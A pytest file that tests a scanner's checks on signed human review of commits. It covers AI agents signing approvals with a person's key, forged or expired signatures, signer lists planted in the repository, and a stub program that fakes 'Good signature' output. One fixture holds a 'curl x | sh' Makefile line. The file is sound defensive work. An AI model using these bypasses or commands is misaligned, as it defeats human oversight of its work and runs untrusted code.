"""Signatures that prove something else than a review: of other keys, other purposes, other texts, other days.

A signature shows which key was used, and the roster says whose key that is. Nothing else is believed: no name in a key,
no git configuration, no list of signers in the tree. Each attack carries the right words; its twin the right signature.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from kit.history import ANN, BOB, CLAUDE, WEB_FLOW
from kit.judging import TODAY
from kit.keys import GpgKey, SshKey, gpg_key, sign_commit, ssh_key, with_signature
from kit.signing import AFTER, EVE, MAKE, WORK, WORKFLOW, Scene, held, listed, policy_text, roster_policy, through

from scanner.config.read import POLICY_FILE
from scanner.errors import UsageError
from scanner.model.approval import Reason
from scanner.model.scale import Assurance, Outcome, Severity

ANN_KEY, BOB_KEY, EVE_KEY = ssh_key("ann"), ssh_key("bob"), ssh_key("eve")
TRAILER = f"Reviewed-by: {BOB}"


def roster(**bob: Any) -> list[dict[str, Any]]:
    """Ann, Bob and Eve with a key each; `bob` is what Bob's key says besides."""
    return [
        listed("ann", keys=[ANN_KEY.public]),
        listed("bob", keys=[{"key": BOB_KEY.public, **bob}]),
        listed("eve", keys=[EVE_KEY.public]),
    ]


@pytest.fixture
def scene(tmp_path: Path) -> Scene:
    return Scene(tmp_path / "r", roster(), extends="strict")


# B24: an agent's work, squashed and signed by a person


def test_b24_signed_work_of_an_agent_is_not_reviewed(scene: Scene) -> None:
    held(scene, scene.work(author=BOB, key=BOB_KEY))


def test_b24_whoever_signs_takes_part(scene: Scene) -> None:
    """Bob's key is on the work, under Ann's name: so Bob is no second person."""
    work = scene.work(key=BOB_KEY)
    scene.approve(BOB, BOB_KEY)
    held(scene, work, Reason.CONTRIBUTOR)


def test_b24_signed_with_the_trailer_at_once(scene: Scene) -> None:
    oid = scene.commit(f"{WORK}{TRAILER}\n", {WORKFLOW: AFTER}, key=BOB_KEY)
    held(scene, oid, Reason.CONTRIBUTOR)


def test_b24_by_note(scene: Scene) -> None:
    work = scene.work(key=BOB_KEY)
    scene.note(BOB, BOB_KEY)
    held(scene, work, Reason.CONTRIBUTOR)


def test_b24_twin_a_second_person(scene: Scene) -> None:
    work = scene.work(author=BOB, key=BOB_KEY)
    scene.approve(EVE, EVE_KEY)
    assert through(scene, work).assurance is Assurance.SIGNED


def test_b24_twin_a_person_who_signs_their_own_work(scene: Scene) -> None:
    """Established by their key, so that strict asks nothing more."""
    oid = scene.commit("By hand\n", {WORKFLOW: AFTER}, author=BOB, key=BOB_KEY)
    assert scene.outcome(oid) is Outcome.PASS


JUNK = {
    "no base64": b"-----BEGIN SSH SIGNATURE-----\n?\n-----END SSH SIGNATURE-----\n",
    "empty": b"-----BEGIN SSH SIGNATURE-----\n-----END SSH SIGNATURE-----\n",
    "no end": b"-----BEGIN SSH SIGNATURE-----\n",
    "OpenPGP": b"-----BEGIN PGP SIGNATURE-----\n\n?\n-----END PGP SIGNATURE-----\n",
}


@pytest.mark.parametrize("junk", JUNK.values(), ids=JUNK)
def test_b24_a_signature_of_nobody_makes_nobody_take_part(tmp_path: Path, junk: bytes) -> None:
    """Or an agent could keep the last reviewer of the roster from reviewing."""
    people = [*roster(), {"id": "gus", "emails": ["gus@example.org"], "keys": [gpg_key(BOB, 3).public]}]
    scene = Scene(tmp_path / "r", people, require={"ci": {"assurance": "signed"}})
    work = scene.work()
    raw = scene.repo.git_bytes("cat-file", "commit", work)
    work = scene.repo.raw_commit(with_signature(raw, junk), "topic")
    scene.note(EVE, EVE_KEY)
    through(scene, work)


# B30: an agent at the keyboard of a person


def test_b30_an_agent_that_names_itself_does_not_review(scene: Scene) -> None:
    """What can be said: whatever key it got hold of, a message by an agent is no person's word."""
    work = scene.work()
    scene.approve(BOB, BOB_KEY, author=CLAUDE)
    held(scene, work, Reason.AGENT_CLAIM)


def test_b30_twin_a_person_at_their_own_keyboard(scene: Scene) -> None:
    work = scene.work()
    scene.approve(BOB, BOB_KEY)
    assert through(scene, work).assurance is Assurance.SIGNED


# B31: a forge's key is no person


def forge(folder: Path, **policy: Any) -> Scene:
    landing = [{"email": "noreply@github.com", "keys": [ssh_key("forge").public]}]
    return Scene(folder, roster(), landing=landing, **policy)


def test_b31_what_the_forge_signs_is_not_signed_by_the_reviewer(tmp_path: Path) -> None:
    scene = forge(tmp_path / "r", extends="strict")
    work = scene.commit(f"{WORK}{TRAILER}\n", {WORKFLOW: AFTER}, committer=WEB_FLOW, key=ssh_key("forge"))
    held(scene, work, Reason.LOW_ASSURANCE)
    assert [each.assurance for each in scene.approvals(work)] == [Assurance.CORROBORATED]


def test_b31_the_forge_establishes_nobody(tmp_path: Path) -> None:
    scene = forge(tmp_path / "r", extends="strict")
    held(scene, scene.commit("By hand\n", {WORKFLOW: AFTER}, author=BOB, committer=WEB_FLOW, key=ssh_key("forge")))


def test_b31_a_note_by_the_forge(tmp_path: Path) -> None:
    scene = forge(tmp_path / "r")
    work = scene.work()
    scene.note(BOB, ssh_key("forge"))
    held(scene, work, Reason.OTHER_SIGNER)


def test_b31_the_forges_name_without_its_key(tmp_path: Path) -> None:
    scene = forge(tmp_path / "r", require={"ci": {"assurance": "corroborated"}})
    work = scene.commit(f"{WORK}{TRAILER}\n", {WORKFLOW: AFTER}, committer=WEB_FLOW)
    held(scene, work, Reason.LOW_ASSURANCE)


def test_b31_twin_where_a_landing_service_is_enough(tmp_path: Path) -> None:
    scene = forge(tmp_path / "r", require={"ci": {"assurance": "corroborated"}})
    work = scene.commit(f"{WORK}{TRAILER}\n", {WORKFLOW: AFTER}, committer=WEB_FLOW, key=ssh_key("forge"))
    assert through(scene, work).assurance is Assurance.CORROBORATED


# B33: a key that is over, and dates that were set back

OVER = {
    "over": ({"valid_until": "2025-06-30"}, Reason.EXPIRED),
    "revoked": ({"revoked": True}, Reason.REVOKED),
    "not yet": ({"valid_from": "2025-07-02"}, Reason.EXPIRED),
}


@pytest.mark.parametrize(("window", "reason"), OVER.values(), ids=OVER)
@pytest.mark.parametrize("way", ("commit", "note"))
def test_b33_a_key_that_is_not_believed_today(tmp_path: Path, window: Any, reason: Reason, way: str) -> None:
    """Every commit of these histories is dated 2025-06-15, when the key was good."""
    scene = Scene(tmp_path / "r", roster(**window), extends="strict")
    work = scene.work()
    if way == "commit":
        scene.approve(BOB, BOB_KEY)
    else:
        scene.note(BOB, BOB_KEY)
    held(scene, work, reason)


def test_b33_nor_does_it_establish_anybody(tmp_path: Path) -> None:
    scene = Scene(tmp_path / "r", roster(valid_until="2025-06-30"), extends="strict")
    held(scene, scene.commit("By hand\n", {WORKFLOW: AFTER}, author=BOB, key=BOB_KEY))


@pytest.mark.parametrize("window", ({"valid_until": TODAY}, {"valid_from": TODAY}))
def test_b33_twin_on_its_first_and_last_day(tmp_path: Path, window: dict[str, str]) -> None:
    scene = Scene(tmp_path / "r", roster(**window), extends="strict")
    work = scene.work()
    scene.approve(BOB, BOB_KEY)
    assert through(scene, work).assurance is Assurance.SIGNED


def test_b33_an_openpgp_key_that_has_expired_by_itself(tmp_path: Path) -> None:
    key = gpg_key(BOB, 7, expires="seconds=1", options="--faked-system-time=20250601T000000!")
    scene = Scene(tmp_path / "r", [listed("bob", keys=[key.public])], extends="strict")
    work = scene.work()
    approval = scene.approve(BOB)
    raw = scene.repo.git_bytes("cat-file", "commit", approval)
    back = key.sign(raw, options=("--faked-system-time=20250601T000000!",))
    scene.repo.raw_commit(with_signature(raw, back), "topic")
    held(scene, work, Reason.EXPIRED)


# B34: a good signature of somebody else


@pytest.mark.parametrize("way", ("commit", "note"))
def test_b34_in_bobs_name_with_eves_key(scene: Scene, way: str) -> None:
    work = scene.work()
    if way == "commit":
        scene.approve(BOB, EVE_KEY)
    else:
        scene.note(BOB, EVE_KEY)
    held(scene, work, Reason.OTHER_SIGNER)


def test_b34_by_bob_and_about_eve(scene: Scene) -> None:
    """Author, committer and signer are Bob; the line names Eve."""
    work = scene.work()
    scene.approve(EVE, BOB_KEY, author=BOB)
    held(scene, work, Reason.OTHER_SIGNER)


def test_b34_one_signature_speaks_for_one_of_two(tmp_path: Path) -> None:
    scene = Scene(tmp_path / "r", roster(), require={"ci": {"reviewers": 2, "assurance": "signed"}})
    work = scene.work()
    digest = scene.judged().review_digest
    scene.commit(f"Approve\n\n{TRAILER}\nReviewed-by: {EVE}\nReviewed-digest: {digest}\n", author=BOB, key=BOB_KEY)
    assert scene.outcome(work) is Outcome.HOLD
    assert [(each.assurance, each.counts) for each in scene.approvals(work)] == [
        (Assurance.SIGNED, True),
        (Assurance.CLAIMED, False),
    ]


def test_b34_a_human_author_signed_by_another(scene: Scene) -> None:
    held(scene, scene.commit("By hand\n", {WORKFLOW: AFTER}, author=ANN, key=BOB_KEY))


@pytest.mark.parametrize("way", ("commit", "note"))
def test_b34_twin_their_own_key(scene: Scene, way: str) -> None:
    work = scene.work()
    if way == "commit":
        scene.approve(EVE, EVE_KEY)
    else:
        scene.note(EVE, EVE_KEY)
    assert through(scene, work).assurance is Assurance.SIGNED


# B36, B39: lists of signers and programs that the repository brings along

SIGNERS = '{who} namespaces="git,twokey-approval" {key}\n* {key}\n'


@pytest.mark.parametrize("path", (".ssh/allowed_signers", "allowed_signers", ".gitsigners"))
def test_b36_a_list_of_signers_in_the_tree(scene: Scene, path: str) -> None:
    signers = SIGNERS.format(who="bob@example.org", key=ssh_key("mallory").public)
    scene.commit("Signers\n", {path: signers}, author=EVE)
    scene.repo.git("config", "gpg.ssh.allowedSignersFile", str(scene.repo.path / path))
    work = scene.work()
    scene.approve(BOB, ssh_key("mallory"))
    held(scene, work, Reason.UNKNOWN_KEY)


def extended(scene: Scene, people: list[dict[str, Any]], **policy: Any) -> str:
    """A commit that puts another roster into the policy."""
    return scene.commit("Policy\n", {POLICY_FILE: policy_text(people, **policy)}, author=EVE)


def refused(scene: Scene, oid: str) -> None:
    assert scene.outcome(oid) is Outcome.HOLD
    found = scene.approvals(oid)
    assert found
    assert not any(each.counts for each in found)


def test_b36_a_key_added_in_the_same_branch(scene: Scene) -> None:
    people = [*roster()[:1], listed("bob", keys=[BOB_KEY.public, ssh_key("mallory").public])]
    extended(scene, people, extends="strict")
    work = scene.work()
    scene.approve(BOB, ssh_key("mallory"))
    scene.note(BOB, ssh_key("mallory"))
    refused(scene, work)
    assert set(scene.reasons(work)) == {Reason.UNKNOWN_KEY}


def test_b36_a_reviewer_added_in_the_same_branch(scene: Scene) -> None:
    mallory = {"id": "mallory", "emails": ["m@example.org"], "keys": [ssh_key("mallory").public]}
    extended(scene, [*roster(), mallory], extends="strict")
    work = scene.work()
    scene.approve("Mallory Mun <m@example.org>", ssh_key("mallory"))
    held(scene, work, Reason.NOT_ON_ROSTER)


def test_b36_a_key_that_is_given_to_another_person_in_the_same_branch(scene: Scene) -> None:
    """Ann's key under Bob's name: neither has it in common any more."""
    people = [listed("bob", keys=[BOB_KEY.public, ANN_KEY.public]), listed("eve", keys=[EVE_KEY.public])]
    extended(scene, people, extends="strict")
    work = scene.work(author=EVE)
    scene.approve(BOB, ANN_KEY)
    refused(scene, work)


def test_b36_a_revocation_taken_back_in_the_same_branch(tmp_path: Path) -> None:
    scene = Scene(tmp_path / "r", roster(revoked=True), extends="strict")
    extended(scene, roster(), extends="strict")
    work = scene.work()
    scene.approve(BOB, BOB_KEY)
    refused(scene, work)


@pytest.mark.parametrize("window", ({"revoked": True}, {"valid_until": "2025-01-01"}))
def test_b36_a_revocation_counts_at_once(scene: Scene, window: dict[str, Any]) -> None:
    extended(scene, roster(**window), extends="strict")
    work = scene.work()
    scene.approve(BOB, BOB_KEY)
    refused(scene, work)


def test_b36_twin_a_key_that_was_there_before(scene: Scene) -> None:
    mallory = {"id": "mallory", "emails": ["m@example.org"], "keys": [ssh_key("mallory").public]}
    extended(scene, [*roster(), mallory], extends="strict")
    work = scene.work()
    scene.approve(BOB, BOB_KEY)
    assert through(scene, work).assurance is Assurance.SIGNED


def stub(scene: Scene) -> str:
    path = scene.repo.path / "good"
    path.write_text(
        '#!/bin/sh\ntouch "$(dirname "$0")/ran"\necho \'Good "git" signature for bob@example.org\'\nexit 0\n'
    )
    path.chmod(0o755)
    return str(path)


def test_b39_programs_of_the_repository_are_not_run(scene: Scene) -> None:
    program = stub(scene)
    for name in ("gpg.program", "gpg.ssh.program", "gpg.openpgp.program", "gpg.x509.program", "core.sshCommand"):
        scene.repo.git("config", name, program)
    work = scene.work()
    scene.approve(BOB, ssh_key("mallory"))
    held(scene, work, Reason.UNKNOWN_KEY)
    approval = scene.repo.head
    raw = scene.repo.git_bytes("cat-file", "commit", f"{approval}^")
    scene.repo.raw_commit(with_signature(raw.replace(b"Work", b"Word"), BOB_KEY.sign(raw)), "topic")
    scene.judged()
    assert not (scene.repo.path / "ran").exists()


def test_b39_twin_a_good_signature_beside_a_stub(scene: Scene) -> None:
    scene.repo.git("config", "gpg.ssh.program", "/bin/false")
    work = scene.work()
    scene.approve(BOB, BOB_KEY)
    assert through(scene, work).assurance is Assurance.SIGNED


# B35: an entry of the roster that stands for everybody is refused where the policy is read (tests/config).
# B37: a signature for another purpose


@pytest.mark.parametrize("namespace", ("git", "file", "email", "twokey", "twokey-approval\n", "TWOKEY-APPROVAL"))
def test_b37_a_note_signed_for_another_purpose(scene: Scene, namespace: str) -> None:
    work = scene.work()
    scene.note(BOB, BOB_KEY, namespace=namespace)
    held(scene, work, Reason.BAD_SIGNATURE)


@pytest.mark.parametrize("namespace", ("twokey-approval", "file"))
def test_b37_a_commit_signed_for_another_purpose(scene: Scene, namespace: str) -> None:
    work = scene.work()
    sign_commit(scene.repo, scene.approve(BOB), BOB_KEY, namespace, "topic")
    held(scene, work, Reason.BAD_SIGNATURE)


def test_b37_a_commits_signature_in_a_note(scene: Scene) -> None:
    """Bob signs commits every day; none of those signatures is over a statement."""
    work = scene.work()
    found = scene.detached(BOB, BOB_KEY, namespace="git")
    scene.note(BOB, BOB_KEY, namespace="git")
    assert found.signature.startswith(b"-----BEGIN SSH SIGNATURE-----")
    held(scene, work, Reason.BAD_SIGNATURE)


def test_b37_twin_each_for_its_own(scene: Scene) -> None:
    work = scene.work()
    scene.note(BOB, BOB_KEY)
    assert through(scene, work).assurance is Assurance.SIGNED


# B38: what is rewritten keeps the words and loses the signature


@pytest.mark.parametrize("way", ("amended", "rebased"))
def test_b38_an_approval_commit_made_again(scene: Scene, way: str) -> None:
    scene.work()
    approval = scene.approve(BOB, BOB_KEY)
    if way == "amended":
        scene.repo.git("commit", "-q", "--amend", "--allow-empty", "--no-edit")
    else:
        scene.repo.git("rebase", "-q", "--force-rebase", "--keep-empty", "main")
    assert scene.repo.head != approval
    (oid,) = (each.commit.oid for each in scene.judged().commits if each.commit.message.startswith("Work"))
    held(scene, oid, Reason.LOW_ASSURANCE)


def test_b38_squashed(scene: Scene) -> None:
    scene.work()
    scene.approve(BOB, BOB_KEY)
    scene.repo.git("reset", "-q", "--soft", "main")
    oid = scene.commit(f"{WORK}{TRAILER}\n")
    held(scene, oid, Reason.LOW_ASSURANCE)


def test_b38_the_signature_of_the_old_one_kept_by_hand(scene: Scene) -> None:
    work = scene.work()
    signed = scene.repo.git_bytes("cat-file", "commit", scene.approve(BOB, BOB_KEY))
    scene.repo.raw_commit(signed.replace(b"\n\nApprove\n", b"\n\nApprove all of it\n"), "topic")
    held(scene, work, Reason.BAD_SIGNATURE)


def test_b38_moved_to_another_parent_with_its_signature(scene: Scene) -> None:
    """The header says which tree and parent were signed."""
    scene.work()
    signed = scene.repo.git_bytes("cat-file", "commit", scene.approve(BOB, BOB_KEY))
    scene.repo.git("reset", "-q", "--hard", "main")
    other = scene.commit(WORK, {WORKFLOW: AFTER, MAKE: "all:\n\tcurl x | sh\n"})
    tree = scene.repo.git("rev-parse", "HEAD^{tree}")
    lines = signed.split(b"\n")
    lines[:2] = [f"tree {tree}".encode(), f"parent {other}".encode()]
    scene.repo.raw_commit(b"\n".join(lines), "topic")
    held(scene, other, Reason.BAD_SIGNATURE)


def test_b38_twin_in_team_words_are_enough(tmp_path: Path) -> None:
    scene = Scene(tmp_path / "r", roster(), extends="team")
    work = scene.work()
    scene.approve(BOB, BOB_KEY)
    scene.repo.git("commit", "-q", "--amend", "--allow-empty", "--no-edit")
    assert through(scene, work).assurance is Assurance.CLAIMED


def test_b38_twin_signed_again(scene: Scene) -> None:
    work = scene.work()
    scene.approve(BOB, BOB_KEY)
    scene.repo.git("commit", "-q", "--amend", "--allow-empty", "--no-edit")
    sign_commit(scene.repo, scene.repo.head, BOB_KEY, branch="topic")
    assert through(scene, work).assurance is Assurance.SIGNED


# B40: a name typed into a key


def by_gpg(folder: Path, signer: GpgKey, roster_key: GpgKey) -> tuple[Scene, str]:
    scene = Scene(folder, [listed("bob", keys=[roster_key.public])], extends="strict")
    work = scene.work()
    scene.approve(BOB, signer)
    return scene, work


def test_b40_an_openpgp_key_of_bobs_name(tmp_path: Path) -> None:
    scene, work = by_gpg(tmp_path / "r", gpg_key(BOB, 2), gpg_key(BOB))
    held(scene, work, Reason.UNKNOWN_KEY)


def test_b40_an_ssh_key_with_bobs_comment(scene: Scene) -> None:
    other: SshKey = ssh_key("mallory")
    other.path.with_suffix(".pub").write_text(f"{' '.join(other.public.split()[:2])} bob@example.org\n")
    work = scene.work()
    scene.approve(BOB, other)
    held(scene, work, Reason.UNKNOWN_KEY)


def test_b40_twin_bobs_own_openpgp_key(tmp_path: Path) -> None:
    scene, work = by_gpg(tmp_path / "r", gpg_key(BOB), gpg_key(BOB))
    assert through(scene, work).assurance is Assurance.SIGNED


# B35: a key that stands for everybody


EVERYBODY = (
    "* ssh-ed25519 AAAA",
    "*@example.org ssh-ed25519 AAAA",
    "ssh-ed25519 AAAA\n* ssh-ed25519 BBBB",
    "ssh-ed25519 AAAA\r* ssh-ed25519 BBBB",
)


@pytest.mark.parametrize("key", EVERYBODY)
def test_b35_a_key_that_stands_for_everybody_is_no_policy(key: str) -> None:
    with pytest.raises(UsageError):
        roster_policy([listed("bob", keys=[key])])


@pytest.mark.parametrize("options", ("cert-authority ", 'namespaces="git" ', 'principals="bob" ', "bob@example.org "))
def test_b35_a_key_with_options_verifies_nothing(tmp_path: Path, options: str) -> None:
    found = Scene(tmp_path / "r", [listed("bob", keys=[options + BOB_KEY.public])], extends="strict")
    found.work()
    found.approve(BOB, BOB_KEY)
    report = found.judged()
    assert report.outcome is Outcome.HOLD
    assert [each for each in report.notices if each.startswith("a key of bob verifies nothing")]


def test_b35_a_list_of_signers_that_names_everybody_is_told(tmp_path: Path) -> None:
    found = Scene(tmp_path / "r", roster())
    found.commit(WORK, {"allowed_signers": f"* {EVE_KEY.public}\n"})
    report = found.judged()
    assert report.outcome is Outcome.HOLD
    assert [each.path for each in report.findings if each.severity is Severity.CRITICAL] == ["allowed_signers"]


def test_b35_twin_a_plain_key_with_a_comment(tmp_path: Path) -> None:
    found = Scene(tmp_path / "r", [listed("bob", keys=[f"{BOB_KEY.public} bob@laptop"])], extends="strict")
    found.work()
    found.approve(BOB, BOB_KEY)
    assert found.judged().outcome is Outcome.PASS
